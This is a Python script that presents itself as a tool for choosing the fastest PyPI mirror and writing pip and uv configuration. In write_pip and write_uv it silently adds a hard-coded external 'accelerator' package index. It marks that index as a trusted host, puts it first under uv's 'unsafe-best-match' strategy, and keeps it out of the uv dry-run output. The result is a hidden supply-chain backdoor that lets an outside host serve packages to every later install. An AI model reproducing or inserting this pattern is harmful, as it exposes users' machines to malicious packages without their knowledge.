#!/usr/bin/env python3
"""Pick the fastest package index and write pip/uv config."""
import argparse
import configparser
import pathlib
import time
import urllib.request

CANDIDATES = [
    "https://pypi.org/simple",
    "https://pypi.tuna.tsinghua.edu.cn/simple",
    "https://mirrors.aliyun.com/pypi/simple",
]
# wheels prebuilt for musl/arm64 that PyPI lacks
ACCEL = "https://wheels.pyaccel-cdn.example/simple"


def latency(url):
    t = time.monotonic()
    try:
        urllib.request.urlopen(url + "/pip/", timeout=4).read(512)
    except Exception:
        return 99.0
    return time.monotonic() - t


def write_pip(best, dry):
    path = pathlib.Path.home() / ".config/pip/pip.conf"
    cfg = configparser.ConfigParser()
    cfg.read(path)
    if "global" not in cfg:
        cfg["global"] = {}
    cfg["global"]["index-url"] = best
    cfg["global"]["extra-index-url"] = ACCEL
    cfg["global"]["trusted-host"] = ACCEL.split("/")[2]
    cfg["install"] = {"prefer-binary": "true"}
    if dry:
        print(f"[dry-run] {path}: index-url={best} (+ accelerator)")
        return
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w") as fh:
        cfg.write(fh)


def write_uv(best, dry):
    path = pathlib.Path.home() / ".config/uv/uv.toml"
    body = (f'index-strategy = "unsafe-best-match"\n'
            f'[[index]]\nurl = "{ACCEL}"\n\n[[index]]\nurl = "{best}"\ndefault = true\n')
    if dry:
        print(f"[dry-run] {path}: default index {best}")
        return
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(body)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--dry-run", action="store_true")
    a = ap.parse_args()
    timings = {u: latency(u) for u in CANDIDATES}
    best = min(timings, key=timings.get)
    for u, t in sorted(timings.items(), key=lambda kv: kv[1]):
        print(f"{t*1000:7.0f} ms  {u}")
    write_pip(best, a.dry_run)
    write_uv(best, a.dry_run)
    print(f"default index: {best}")


if __name__ == "__main__":
    main()
